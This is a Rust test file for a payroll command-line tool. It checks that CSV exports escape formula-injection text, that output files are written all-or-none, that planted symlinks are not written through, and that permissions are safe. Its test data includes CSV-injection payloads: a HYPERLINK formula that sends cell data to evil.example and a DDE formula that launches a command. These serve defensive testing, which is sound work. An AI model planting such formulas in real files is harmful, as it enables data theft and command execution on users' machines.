//! Issue 12, files that cannot hurt the office: formulas in CSV text cells
//! are neutralised, and the files of one command are written together or
//! not at all, never through a planted link, with safe permissions.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const BIN: &str = env!("CARGO_BIN_EXE_payrules");

const HOSTILE: [&str; 3] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "=cmd|' /C calc'!A0",
    "\tX",
];

fn run(args: &[&str]) -> Output {
    Command::new(BIN)
        .args(args)
        .output()
        .expect("payrules runs")
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("payrules-safety-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn write(d: &Path, name: &str, bytes: impl AsRef<[u8]>) -> String {
    let p = d.join(name);
    std::fs::write(&p, bytes).unwrap();
    p.to_str().unwrap().to_string()
}

/// A JSON roster: the hostile names (and ids, units) paid, plus `bad`
/// workers with an unknown position.
fn roster(d: &Path, bad: usize) -> (String, String) {
    let mut workers = Vec::new();
    let mut assess = Vec::new();
    for (i, h) in HOSTILE.iter().enumerate() {
        let id = format!("{h}{i}");
        workers.push(serde_json::json!({
            "id": id, "name": h, "unit": h, "position": "community_worker",
            "hired_on": "2020-01-01"
        }));
        assess.push(serde_json::json!({"worker_id": id, "period": "2026-11", "grade": "pass"}));
    }
    for i in 0..bad {
        let id = format!("=BAD{i}");
        workers.push(serde_json::json!({
            "id": id, "name": "x", "unit": "U", "position": "chef", "hired_on": "2020-01-01"
        }));
        assess.push(serde_json::json!({"worker_id": id, "period": "2026-11", "grade": "pass"}));
    }
    (
        write(
            d,
            "r.json",
            serde_json::json!({ "workers": workers }).to_string(),
        ),
        write(d, "a.json", serde_json::Value::from(assess).to_string()),
    )
}

fn records(bytes: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// Every hostile text appears only behind a `'` (HR files trim cells, so
/// the tab one arrives as `X` from them: `n` says how many to look for).
fn assert_escaped(rows: &[Vec<String>], n: usize) {
    let cells: Vec<&String> = rows.iter().flatten().collect();
    for c in &cells {
        let formula = matches!(
            c.as_bytes().first(),
            Some(b'=' | b'+' | b'@' | b'\t' | b'\r')
        ) || (c.starts_with('-') && c.parse::<f64>().is_err());
        assert!(!formula, "unescaped cell {c:?}");
    }
    for h in &HOSTILE[..n] {
        let want = format!("'{h}");
        assert!(
            cells.iter().any(|c| c.starts_with(&want)),
            "{want:?} not in {rows:?}"
        );
    }
}

#[test]
fn payroll_csv_escapes_text_and_keeps_amounts() {
    let d = dir("pay");
    let (r, a) = roster(&d, 0);
    let o = run(&[
        "monthly",
        "--period",
        "2026-11",
        "--roster",
        &r,
        "--assessments",
        &a,
        "--format",
        "csv",
        "-q",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let rows = records(&o.stdout);
    // two header rows, three payslips, the totals row (its text is ours:
    // not escaped)
    assert_eq!(rows.len(), 6, "{rows:?}");
    assert_eq!(rows[5][..2], ["合计 total", "3 人 workers"]);
    assert_eq!(rows[5][8], "12000.00");
    assert_escaped(&rows, 2);
    // amounts are plain numbers
    assert!(rows[2].last().unwrap().parse::<f64>().is_ok(), "{rows:?}");
}

#[test]
fn errors_csv_escapes_text() {
    let d = dir("errors");
    let (r, a) = roster(&d, 3);
    let out = d.join("pay.csv");
    let o = run(&[
        "monthly",
        "--period",
        "2026-11",
        "--roster",
        &r,
        "--assessments",
        &a,
        "--output",
        out.to_str().unwrap(),
        "--allow-partial",
        "-q",
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert_escaped(&records(&std::fs::read(&out).unwrap()), 2);
    let errs = records(&std::fs::read(d.join("pay.errors.csv")).unwrap());
    assert!(errs.iter().any(|r| r[3] == "'=BAD0"), "{errs:?}");
    for c in errs.iter().flatten() {
        assert!(!c.starts_with('='), "{c:?}");
    }
}

/// A run request (as for `payrules run`): its strings are not trimmed.
fn request() -> serde_json::Value {
    let workers: Vec<_> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, h)| {
            serde_json::json!({"id": format!("{h}{i}"), "name": h, "unit": h,
                "position": "community_worker", "hired_on": "2020-01-01"})
        })
        .collect();
    let assessments: Vec<_> = HOSTILE
        .iter()
        .enumerate()
        .map(|(i, h)| serde_json::json!({"worker_id": format!("{h}{i}"), "period": "2026-11", "grade": "pass"}))
        .collect();
    serde_json::json!({"kind": "monthly", "period": "2026-11", "workers": workers, "assessments": assessments})
}

#[test]
fn payroll_csv_writer_keeps_a_leading_tab_behind_the_quote() {
    use payrules::hrfile::write;
    let req = payrules::Request::from_json(request().to_string().as_bytes()).unwrap();
    let run = payrules::run::run(&req, None).unwrap();
    let rows = write::PayRows::from_run(&run);
    let mut out = Vec::new();
    write::csv(&run, &rows, &mut out).unwrap();
    let rows = records(&out);
    assert_escaped(&rows, 3);
    assert!(rows.iter().any(|r| r[1] == "'\tX"), "{rows:?}");
}

#[test]
fn errors_csv_writer_escapes_every_text_cell() {
    let p = payrules::hrfile::FileProblem {
        file: HOSTILE[0].into(),
        line: Some(3),
        column: Some(HOSTILE[1].into()),
        worker_id: Some(HOSTILE[2].into()),
        field: Some("+f".into()),
        message: "-m".into(),
        warning: false,
    };
    let mut out = Vec::new();
    payrules::hrfile::write::errors_csv(&[p], &mut out).unwrap();
    let rows = records(&out);
    assert_eq!(
        rows[1],
        [
            format!("'{}", HOSTILE[0]),
            "3".into(),
            format!("'{}", HOSTILE[1]),
            format!("'{}", HOSTILE[2]),
            "'+f".into(),
            "'-m".into(),
            "error".into()
        ]
    );
}

#[test]
fn whatif_csv_escapes_text() {
    let d = dir("whatif");
    let req = write(&d, "req.json", request().to_string());
    let o = run(&[
        "whatif",
        "--reform",
        "examples/reforms/monthly-bonus-plus-100.toml",
        "--period",
        "2026-11",
        "--request",
        &req,
        "--format",
        "csv",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let rows = records(&o.stdout);
    assert_escaped(&rows, 3);
    // amounts stay numbers
    assert!(rows.iter().skip(1).all(|r| r[8].parse::<f64>().is_ok()));
}

#[test]
fn grade_csv_escapes_text() {
    let d = dir("grade");
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["worker_id", "unit", "score"]).unwrap();
    w.write_record([HOSTILE[0], HOSTILE[1], "90"]).unwrap();
    w.write_record(["-1", "@U", "80"]).unwrap();
    let s = write(&d, "s.csv", w.into_inner().unwrap());
    let o = run(&["grade", "--period", "2026-11", "--scores", &s]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let rows = records(&o.stdout);
    assert_eq!(rows[1][0], format!("'{}", HOSTILE[0]), "{rows:?}");
    assert_eq!(rows[1][1], format!("'{}", HOSTILE[1]));
    assert_eq!(rows[2][0], "'-1");
    assert_eq!(rows[2][1], "'@U");
    assert_eq!(rows[1][2], "90");
}

#[cfg(unix)]
mod unix {
    use super::*;
    use std::os::unix::fs::{PermissionsExt, symlink};

    fn mode(p: &Path) -> u32 {
        std::fs::metadata(p).unwrap().permissions().mode() & 0o7777
    }

    fn names(d: &Path) -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(d)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    }

    fn monthly(r: &str, a: &str, out: &Path, extra: &[&str]) -> Vec<String> {
        let mut v: Vec<String> = [
            "monthly",
            "--period",
            "2026-11",
            "--roster",
            r,
            "--assessments",
            a,
            "--format",
            "csv",
            "--output",
            out.to_str().unwrap(),
            "-q",
        ]
        .iter()
        .map(|s| s.to_string())
        .collect();
        v.extend(extra.iter().map(|s| s.to_string()));
        v
    }

    #[test]
    fn disk_full_on_the_errors_file_leaves_the_old_output() {
        let d = dir("full");
        let (r, a) = roster(&d, 300);
        let out = d.join("pay.csv");
        std::fs::write(&out, "OLD OUTPUT\n").unwrap();
        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o640)).unwrap();
        let before = names(&d);
        let args = monthly(&r, &a, &out, &["--allow-partial"]);
        // 8 blocks (4 KiB in sh's 512-byte blocks): room for the payroll
        // (4 rows), none for 300 problems; EFBIG, not SIGXFSZ.
        let o = Command::new("sh")
            .arg("-c")
            .arg("trap '' XFSZ; ulimit -f 8 && exec \"$0\" \"$@\"")
            .arg(BIN)
            .args(&args)
            .output()
            .unwrap();
        assert_ne!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_ne!(o.status.code(), Some(2), "{}", stderr(&o));
        assert!(stderr(&o).contains("pay.errors.csv"), "{}", stderr(&o));
        assert_eq!(std::fs::read(&out).unwrap(), b"OLD OUTPUT\n");
        assert_eq!(mode(&out), 0o640);
        assert_eq!(names(&d), before, "no temporaries left, no errors file");
        // Without the limit the same run writes both, the payroll keeping 0640.
        let o = Command::new(BIN).args(&args).output().unwrap();
        assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
        assert_ne!(std::fs::read(&out).unwrap(), b"OLD OUTPUT\n");
        assert_eq!(mode(&out), 0o640);
        assert_eq!(mode(&d.join("pay.errors.csv")), 0o600);
        assert!(std::fs::metadata(d.join("pay.errors.csv")).unwrap().len() > 4096);
    }

    #[test]
    fn example_files_are_written_all_or_none() {
        let d = dir("example-full");
        std::fs::write(d.join("roster.csv"), "OLD").unwrap();
        // 100 blocks (50 KiB): roster.csv (about 44 KB) fits, assessments.csv does not.
        let o = Command::new("sh")
            .arg("-c")
            .arg("trap '' XFSZ; ulimit -f 100 && exec \"$0\" \"$@\"")
            .arg(BIN)
            .args(["example", "--out", d.to_str().unwrap()])
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
        assert_eq!(names(&d), ["roster.csv"]);
        assert_eq!(std::fs::read(d.join("roster.csv")).unwrap(), b"OLD");
        let o = run(&["example", "--out", d.to_str().unwrap()]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_eq!(names(&d).len(), 9, "{:?}", names(&d)); // with tax.csv and tax.xlsx
    }

    #[test]
    fn planted_links_are_not_written_through() {
        let d = dir("links");
        let (r, a) = roster(&d, 2);
        let victim = d.join("victim.txt");
        std::fs::write(&victim, "VICTIM").unwrap();
        std::fs::set_permissions(&victim, std::fs::Permissions::from_mode(0o644)).unwrap();
        let out = d.join("pay.csv");
        for n in [
            "pay.csv.partial",
            "pay.errors.csv.partial",
            "pay.csv",
            "pay.errors.csv",
        ] {
            symlink(&victim, d.join(n)).unwrap();
        }
        let o = Command::new(BIN)
            .args(monthly(&r, &a, &out, &["--allow-partial"]))
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
        assert_eq!(std::fs::read(&victim).unwrap(), b"VICTIM");
        for n in ["pay.csv", "pay.errors.csv"] {
            let m = std::fs::symlink_metadata(d.join(n)).unwrap();
            assert!(m.file_type().is_file(), "{n} is a file now, not a link");
            assert_eq!(
                mode(&d.join(n)),
                0o600,
                "{n}: a link's target lends no mode"
            );
        }
        // the planted .partial links are left alone and still point at the victim
        assert!(
            std::fs::symlink_metadata(d.join("pay.csv.partial"))
                .unwrap()
                .file_type()
                .is_symlink()
        );
        assert_eq!(std::fs::read(&victim).unwrap(), b"VICTIM");
    }

    #[test]
    fn modes_and_stale_errors_file() {
        let d = dir("modes");
        let (r, a) = roster(&d, 0);
        let out = d.join("pay.csv");
        let errors = d.join("pay.errors.csv");
        std::fs::write(&errors, "stale").unwrap();
        // a new file is 0600 and a clean run removes the stale errors file
        let o = Command::new(BIN)
            .args(monthly(&r, &a, &out, &[]))
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_eq!(mode(&out), 0o600);
        assert!(!errors.exists(), "stale errors file removed");
        // a 0600 file stays 0600 even with --mode; a new one gets --mode
        let o = Command::new(BIN)
            .args(monthly(&r, &a, &out, &["--mode", "644"]))
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_eq!(mode(&out), 0o600);
        let out2 = d.join("pay2.csv");
        let o = Command::new(BIN)
            .args(monthly(&r, &a, &out2, &["--mode", "644"]))
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_eq!(mode(&out2), 0o644);
        // whatif takes --mode as well
        let w = d.join("w.csv");
        let o = run(&[
            "whatif",
            "--reform",
            "examples/reforms/monthly-bonus-plus-100.toml",
            "--period",
            "2026-11",
            "--roster",
            &r,
            "--assessments",
            &a,
            "--format",
            "csv",
            "--output",
            w.to_str().unwrap(),
            "--mode",
            "640",
        ]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        assert_eq!(mode(&w), 0o640);
        let o = run(&[
            "monthly",
            "--period",
            "2026-11",
            "--example",
            "--mode",
            "99",
        ]);
        assert_eq!(o.status.code(), Some(2), "bad --mode is a usage error");
    }
}
